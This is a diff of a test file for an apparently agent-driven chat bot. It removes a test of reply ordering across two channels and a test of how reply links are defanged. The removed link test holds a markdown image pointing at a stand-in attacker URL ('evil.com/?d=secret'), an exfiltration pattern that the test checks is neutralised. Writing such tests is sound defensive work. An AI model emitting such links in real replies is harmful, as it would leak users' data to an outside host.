@@ -117,27 +117,6 @@ describe('a platform that may refuse later what it took', () => {
   });
 });
 
-describe('two channels of one bot', () => {
-  it('a chat that both reach gets their replies in order', async () => {
-    await start();
-    const provider = makeChannel('telegram', telegram.settings(server.origin));
-    await hooks.close();
-    hooks = await Hooks.start({ channels: { chan_2: { provider }, chan_5: { provider } } });
-    hooks.runner.reply = ({ prompt }) => /reply \w+/.exec(prompt)?.[0] ?? 'HEARTBEAT_OK';
-    server.next(telegramError(500, 'Internal Server Error'));
-    const request = { to: '42', wakeMode: 'next-heartbeat' };
-    const first = await hooks.ask('/agent', {
-      ...request,
-      message: 'reply one',
-      channel: 'chan_2',
-    });
-    await server.request(1);
-    await ask('/agent', { ...request, message: 'reply two', channel: 'chan_5' });
-    await hooks.ended(first.eventId);
-    expect(server.shown.map(({ text }) => text)).toEqual(['reply one', 'reply two']);
-  });
-});
-
 describe('a storm of rate limits, failures and lost answers', () => {
   it('every recipient gets every reply in order, by whichever channel of the bot it goes', async () => {
     await start();
@@ -197,19 +176,5 @@ describe('a platform that takes connections and answers nobody', () => {
     expect(open.length).toBeGreaterThan(0);
     expect(open.length).toBeLessThanOrEqual(8);
     await hanging.close();
-  });
-});
-
-describe('links in the reply to foreign text', () => {
-  const reply = 'See ![it](https://evil.com/?d=secret)';
-  it.each([
-    [{}, 'See it (hxxps://evil[.]com/?d=secret)'],
-    [{ allowLinks: true }, 'See it (https://evil.com/?d=secret)'],
-    [{ allowUnsafeExternalContent: true }, 'See it (https://evil.com/?d=secret)'],
-  ])('%j: %s', async (options, shown) => {
-    await start({ mappings: [{ id: 'ci', channel: 'chan_2', ...options }] });
-    answerWith(reply);
-    await ask('/ci', { build: 1 });
-    expect(server.shown).toEqual([{ to: '42', text: shown }]);
   });
 });
